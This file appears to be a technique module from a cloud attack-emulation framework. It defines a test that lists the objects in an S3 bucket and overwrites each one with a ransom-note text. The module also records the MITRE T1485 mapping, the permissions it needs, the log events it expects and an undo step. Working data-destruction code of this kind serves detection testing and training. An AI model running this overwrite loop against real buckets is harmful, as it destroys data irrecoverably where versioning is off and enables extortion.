import { z } from 'zod';
import { putBackObjects } from '../../../put-back-objects.ts';
import type { AttackTechnique } from '../../../technique.ts';
import { utf8 } from '../../../utf8.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/** Every object becomes a note that asks for money. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'impact.overwritten-for-ransom',
  title: 'Overwrite the objects of a bucket with a ransom note',
  purpose: 'Without versions nothing is left to read; with them, somebody has to notice in time.',
  mitre: ['T1485'],
  awsThreatTechniques: ['T1485.A003'],
  sources: [
    {
      title: 'Data Destruction, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1485/',
    },
    {
      title: 'T1485.A003, Threat Technique Catalog for AWS',
      url: 'https://aws-samples.github.io/threat-technique-catalog-for-aws/Techniques/T1485.A003.html',
    },
    {
      title: 'PutObject, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutObject.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: { objects: ['reports/april.csv', 'reports/may.csv'] } },
  needs: ['s3:ListBucket', 's3:PutObject'],
  leaves: [
    { service: 's3.amazonaws.com', name: 'ListObjects', outcome: 'succeeds' },
    { service: 's3.amazonaws.com', name: 'PutObject', outcome: 'succeeds', times: 2 },
  ],
  repeatable: true,
  async detonate({ inputs: { bucket }, aws, signal, say }) {
    const { Contents = [] } = await aws.s3().listObjectsV2({ Bucket: bucket });
    say(`Overwrite ${Contents.length} objects of ${bucket}`);
    for (const { Key } of Contents) {
      signal.throwIfAborted();
      await aws
        .s3()
        .putObject({ Bucket: bucket, Key, Body: utf8(NOTE), ContentType: 'text/plain' });
    }
  },
  undo: putBackObjects(({ bucket }) => ({ bucket, prefix: '' })),
};

const NOTE = 'Aftertrace, for training only: this would be a ransom note.\n';
